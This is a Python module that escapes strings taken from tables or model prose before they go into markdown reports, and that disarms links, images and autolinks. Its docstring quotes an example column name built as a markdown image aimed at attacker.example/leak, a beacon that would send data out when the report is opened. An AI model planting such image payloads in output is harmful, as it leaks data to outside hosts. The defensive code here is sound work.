"""Putting strings that came from a table or a model into markdown safely.

Column names, titles built from them and model-written prose (interpretations, summaries) are data,
never markup: a column named ``![x](https://attacker.example/leak)`` must not become an image that
beacons out when the report is opened. :func:`escape_md` is the one function every such string goes
through on its way into the report; :func:`defuse_markdown` disarms links, images and autolinks in
tool-written markdown (tables, lists) while keeping its structure. Both keep inline code spans as they
are, since a code span's content is always shown literally.
"""

from __future__ import annotations

import re

_PUNCT_ESCAPED = set("\\`*_[]<>!|&~#")
"""Characters escaped in plain text: everything that can open an inline construct (emphasis, links,
images, autolinks, entities, code spans, strikethrough) or split a table cell."""
_LINK_OPENERS = set("[]<")
"""Characters escaped in tool-written markdown: links, images and autolinks all need one of them."""
_ASCII_PUNCT = set("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_BLOCK_START = re.compile(r"^(\s*)([-+=>#]|\d{1,9}[.)])")


def code(text: object, limit: int = 80) -> str:
    """Inline-code a string from the table so markdown shows it literally (long names shortened).

    The fence grows past any backticks inside the text; raw HTML is escaped later by the HTML
    renderer, so a column named ``<script>`` stays text.
    """
    s = str(text).replace("\n", " ").replace("\r", " ")
    if len(s) > limit:
        s = s[: limit - 1] + "…"
    fence = "`"
    while fence in s:
        fence += "`"
    pad = " " if s.startswith("`") or s.endswith("`") or not s.strip() else ""
    return f"{fence}{pad}{s}{pad}{fence}"


def _escape_inline(text: str, escaped: set[str]) -> str:
    """Backslash-escape ``escaped`` characters outside code spans; code spans and existing escapes kept.

    Code spans are found as CommonMark finds them: a run of n backticks up to the next run of exactly n;
    an unmatched run is literal text (and escaped here).
    """
    out: list[str] = []
    i, n = 0, len(text)
    while i < n:
        ch = text[i]
        if ch == "`":
            j = i
            while j < n and text[j] == "`":
                j += 1
            run = j - i
            close = j
            while True:
                close = text.find("`" * run, close)
                if close < 0:
                    break
                end = close + run
                if (end >= n or text[end] != "`") and (close == 0 or text[close - 1] != "`"):
                    break
                close = end
                while close < n and text[close] == "`":
                    close += 1
            if close < 0:
                out.append("\\`" * run)
                i = j
            else:
                out.append(text[i:close + run])
                i = close + run
            continue
        if ch == "\\" and escaped is _LINK_OPENERS and i + 1 < n and text[i + 1] in _ASCII_PUNCT:
            out.append(text[i:i + 2])  # an escape the tool wrote on purpose (e.g. '\|' in a table cell)
            i += 2
            continue
        out.append("\\" + ch if ch in escaped else ch)
        i += 1
    return "".join(out)


def escape_md(text: object, limit: int | None = None) -> str:
    """A string from a table or a model as markdown text that renders exactly as written.

    Line breaks become spaces (the string stays inside its line, heading or table cell); every
    character that could start markdown structure is backslash-escaped, so no link, image, autolink,
    emphasis or raw HTML can come out of it. Inline code spans in the string (tool titles quote column
    names with :func:`code`) are kept as they are.

    Args:
        text: The string (anything; ``str()`` is taken).
        limit: Longest length kept, in characters (None: no limit).
    """
    s = " ".join(str(text).splitlines())
    if limit is not None and len(s) > limit:
        s = s[: limit - 1] + "…"
    s = _escape_inline(s, _PUNCT_ESCAPED)
    m = _BLOCK_START.match(s)
    if m:  # a leading '#', '-', '>', '1.' ... would start a heading, list or quote
        s = f"{m.group(1)}\\{m.group(2)}{s[m.end():]}" if not m.group(2)[0].isdigit() \
            else f"{m.group(1)}{m.group(2)[:-1]}\\{m.group(2)[-1]}{s[m.end():]}"
    return s


def defuse_markdown(markdown: str) -> str:
    """Tool-written markdown with every link, image and autolink disarmed; tables and lists kept.

    Tools quote column names with :func:`code`, but some strings (notes, titles) carry names as plain
    text. No tool writes a link or an image on purpose, so ``[``, ``]`` and ``<`` are escaped outside
    code spans. Each line is scanned on its own and split at table-cell pipes, the way the renderer
    splits it, so a code span is never assumed where the renderer would not see one.
    """
    lines = []
    for line in markdown.split("\n"):
        cells = re.split(r"(?<!\\)(\|)", line)
        lines.append("".join(c if c == "|" else _escape_inline(c, _LINK_OPENERS) for c in cells))
    return "\n".join(lines)
